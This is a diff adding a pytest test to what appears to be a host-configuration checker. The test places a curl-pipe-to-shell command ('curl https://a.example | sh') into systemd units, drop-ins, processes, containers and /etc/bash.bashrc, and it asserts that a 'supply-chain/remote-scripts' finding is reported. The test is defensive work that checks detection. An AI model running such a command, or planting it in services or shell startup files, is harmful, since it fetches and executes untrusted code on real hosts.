@@ -103,6 +103,35 @@ def test_lines_below_a_value_with_several_are_still_found(bench: Bench) -> None:
     assert [one[1:3] for one in told(bench.decide(proposed), proposed)] == [(SOURCE, 1), (SOURCE, 2)]
 
 
+FETCHED = "curl https://a.example | sh"
+RUNNING = {
+    "a unit": (
+        "services:\n    - name: a.service\n      unit: |\n        [Service]\n        User=a\n        ExecStart=${parameters.line}\n",
+        12,
+    ),
+    "a unit in a source": ("services:\n    - name: a.service\n      source: files/text\n", 4),
+    "a drop-in": ("services:\n    - name: a.service\n      dropIns: [{name: a.conf, content: 'ExecStart=${parameters.line}'}]\n", 9),
+    "a process": ("processes:\n    - name: a\n      user: a\n      command: [/bin/sh, -c, '${parameters.line}']\n", 10),
+    "a container": (
+        f"containers:\n    - name: a\n      image: e@sha256:{'ab' * 32}\n      user: a\n      command: ['${{parameters.line}}']\n",
+        11,
+    ),
+    "a block of lines": ("hostFiles:\n    - name: a\n      path: /etc/bash.bashrc\n      content: '${parameters.line}'\n", 10),
+}
+"""What holds a text beside files → a spec with one, and the line at which a value of it is found."""
+
+
+@pytest.mark.parametrize("what", RUNNING)
+def test_a_value_in_what_runs_on_a_host_is_judged_where_it_is_filled_in(bench: Bench, what: str) -> None:
+    spec, line = RUNNING[what]
+    source = "# one\n[Service]\nUser=a\nExecStart=${parameters.line}\n" if "source" in what else "none"
+    head = files("/etc/a", "none", given=FETCHED)
+    proposed = head | {COMPONENT: head[COMPONENT].partition("  files:")[0] + "  " + spec, SOURCE: source}
+    found = told(bench.decide(proposed), proposed)
+    place = SOURCE if "source" in what else COMPONENT
+    assert ("supply-chain/remote-scripts", place, line, True) in found
+
+
 def test_what_the_component_has_as_it_is_written_is_not_told_twice(bench: Bench) -> None:
     warned = "  rules: {host-safety/sshd: {level: warn}}\n"
     proposed = files(SSHD, f"{ROOT}\nAllowGroups ${{parameters.line}}\n") | {"ordain.yaml": REPOSITORY + warned}
